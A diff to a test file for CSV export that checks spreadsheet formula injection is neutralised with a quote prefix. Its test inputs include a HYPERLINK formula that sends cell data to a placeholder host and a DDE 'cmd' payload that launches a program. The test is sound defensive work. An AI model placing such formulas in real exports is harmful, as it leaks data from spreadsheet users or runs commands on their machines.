@@ -1,3 +1,4 @@
+import Papa from 'papaparse';
 import mammoth from 'mammoth';
 import { unzipSync } from 'fflate';
 import { describe, expect, it } from 'vitest';
@@ -62,6 +63,14 @@ describe('exporting retrieved segments to CSV', () => {
   it('neutralises cells that a spreadsheet would run as formulas', () => {
     const bytes = tableToCsv({ title: 't', columns: [{ key: 'a', label: 'A' }], rows: [{ key: '1', cells: [{ kind: 'text', text: '=HYPERLINK("x")' }] }] });
     expect(new TextDecoder().decode(bytes.slice(3))).toContain(`"'=HYPERLINK(""x"")"`);
+  });
+
+  it('neutralises a multi-line survey answer that opens with a formula, and leaves plain numbers alone', () => {
+    const answer = '=HYPERLINK("http://example.invalid/?d="&A1,\n"Ver más")';
+    const cells = [answer, '+cmd|\' /C calc\'!A0\nsegunda línea', '@SUM(1+1)', '\t=1+1', '-3', '+12%', '-2,5', 'La madre = la cuidadora'];
+    const bytes = tableToCsv({ title: 't', columns: cells.map((_, i) => ({ key: `c${i}`, label: `C${i}` })), rows: [{ key: '1', cells: cells.map((text) => ({ kind: 'text' as const, text })) }] });
+    const parsed = Papa.parse<string[]>(new TextDecoder().decode(bytes.slice(3)).trim(), { newline: '\r\n' }).data;
+    expect(parsed[1]).toEqual([`'${answer}`, `'${cells[1]}`, "'@SUM(1+1)", "'\t=1+1", '-3', '+12%', '-2,5', 'La madre = la cuidadora']);
   });
 });
 
